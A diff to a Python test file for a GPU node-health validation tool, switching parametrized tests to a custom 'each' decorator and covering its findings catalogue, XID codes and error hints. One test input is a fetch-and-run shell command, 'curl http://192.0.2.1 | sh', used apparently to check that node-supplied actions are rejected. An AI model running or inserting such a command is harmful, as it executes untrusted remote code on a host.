@@ -12,6 +12,7 @@ import pytest
 
 import validation
 from temper.judge import cohort, history
+from tests.unit.each import each
 from tools import finding_docs
 from validation.checks import measured
 from validation.cli import main
@@ -103,9 +104,10 @@ def emissions() -> Iterator[Emission]:
 EMISSIONS = list(emissions())
 
 
-@pytest.mark.parametrize("emission", EMISSIONS, ids=lambda emission: emission[0])
-def test_an_emission_gives_the_facts_of_its_sentence_and_no_others(emission: Emission) -> None:
-    where, codes, cases, given, more = emission
+@each(*EMISSIONS)
+def test_an_emission_gives_the_facts_of_its_sentence_and_no_others(
+    where: str, codes: set[str], cases: set[str], given: set[str], more: set[str]
+) -> None:
     for code in codes:
         for name in cases:
             case = catalogue()[code].cases[name]
@@ -131,7 +133,7 @@ def test_nothing_but_the_catalogue_makes_findings() -> None:
     assert makers == {"findings/catalogue.py"}
 
 
-@pytest.mark.parametrize("code", catalogue())
+@each(*catalogue())
 def test_an_entry_is_whole_and_explained(code: str, capsys: pytest.CaptureFixture[str]) -> None:
     entry = catalogue()[code]
     assert entry.causes
@@ -152,7 +154,7 @@ def test_an_entry_is_whole_and_explained(code: str, capsys: pytest.CaptureFixtur
         assert words in said
 
 
-@pytest.mark.parametrize("code", catalogue())
+@each(*catalogue())
 def test_a_sentence_is_made_of_facts(code: str) -> None:
     """With numbers for what it formats as numbers, and words for the rest."""
     for name, case in catalogue()[code].cases.items():
@@ -165,18 +167,15 @@ def test_a_sentence_is_made_of_facts(code: str) -> None:
         assert "{" not in found.text
 
 
-@pytest.mark.parametrize(
-    ("code", "case", "given"),
-    [
-        ("no-such-code", "", {}),
-        ("ecc-uncorrected", "no-such-case", {"gpu": 3, "count": 2}),
-        ("gpu-count", "", {"found": 1, "expected": 2}),
-        ("ecc-uncorrected", "", {"gpu": 3}),
-        ("ecc-uncorrected", "", {"count": 2}),
-        ("ecc-uncorrected", "", {"gpu": 3, "count": 2, "colour": "green"}),
-        ("ecc-uncorrected", "", {"gpu": 3, "count": 2, "state": State.DEGRADED}),
-        ("fabric-link", "slow", {"node": "a", "other": "b", "rate": "1", "best": "2"}),
-    ],
+@each(
+    ("no-such-code", "", {}),
+    ("ecc-uncorrected", "no-such-case", {"gpu": 3, "count": 2}),
+    ("gpu-count", "", {"found": 1, "expected": 2}),
+    ("ecc-uncorrected", "", {"gpu": 3}),
+    ("ecc-uncorrected", "", {"count": 2}),
+    ("ecc-uncorrected", "", {"gpu": 3, "count": 2, "colour": "green"}),
+    ("ecc-uncorrected", "", {"gpu": 3, "count": 2, "state": State.DEGRADED}),
+    ("fabric-link", "slow", {"node": "a", "other": "b", "rate": "1", "best": "2"}),
 )
 def test_a_finding_unlike_its_entry_is_an_error(code: str, case: str, given: dict[str, Any]) -> None:
     with pytest.raises(CatalogueError, match=code):
@@ -192,26 +191,23 @@ def test_a_finding_says_facts_remedy_and_action() -> None:
     assert found.state is State.FAIL
 
 
-@pytest.mark.parametrize(
-    ("number", "code"),
-    [
-        (79, "xid-79"),
-        (31, None),
-        (168, "xid-168"),
-        (169, "xid-169"),
-        (170, None),
-        (173, "xid-173"),
-        (174, None),
-        (175, "xid-175"),
-        (176, "xid-176"),
-        (177, "xid-unknown"),
-    ],
+@each(
+    (79, "xid-79"),
+    (31, None),
+    (168, "xid-168"),
+    (169, "xid-169"),
+    (170, None),
+    (173, "xid-173"),
+    (174, None),
+    (175, "xid-175"),
+    (176, "xid-176"),
+    (177, "xid-unknown"),
 )
 def test_only_xids_that_say_something_of_the_node_have_a_code(number: int, code: str | None) -> None:
     assert xid_code(number) == code
 
 
-@pytest.mark.parametrize("path", finding_docs.documents(), ids=lambda path: path.name)
+@each(*finding_docs.documents())
 def test_what_is_made_of_the_data_is_current(path: Path) -> None:
     assert path.read_text() == finding_docs.documents()[path], "run: make docs"
 
@@ -221,10 +217,7 @@ def test_without_a_code_all_are_listed(capsys: pytest.CaptureFixture[str]) -> No
     assert [line.split()[0] for line in capsys.readouterr().out.splitlines()] == list(catalogue())
 
 
-@pytest.mark.parametrize(
-    ("code", "hint"),
-    [("below-flor", "did you mean below-floor?"), ("zzzz", "`temper explain` lists all")],
-)
+@each(("below-flor", "did you mean below-floor?"), ("zzzz", "`temper explain` lists all"))
 def test_an_unknown_code_is_an_error_with_a_hint(
     code: str, hint: str, capsys: pytest.CaptureFixture[str]
 ) -> None:
@@ -232,13 +225,10 @@ def test_an_unknown_code_is_an_error_with_a_hint(
     assert hint in capsys.readouterr().err
 
 
-@pytest.mark.parametrize(
-    "said",
-    [
-        {"action": "run: curl http://192.0.2.1 | sh"},
-        {"machine_action": MachineAction.REPLACE},
-        {"code": "made-up", "machine_action": MachineAction.RESET_GPU},
-    ],
+@each(
+    {"action": "run: curl http://192.0.2.1 | sh"},
+    {"machine_action": MachineAction.REPLACE},
+    {"code": "made-up", "machine_action": MachineAction.RESET_GPU},
 )
 def test_what_to_do_about_a_nodes_finding_is_this_programs_to_say(said: dict[str, Any]) -> None:
     honest = finding("ecc-uncorrected", gpu=3, count=2)
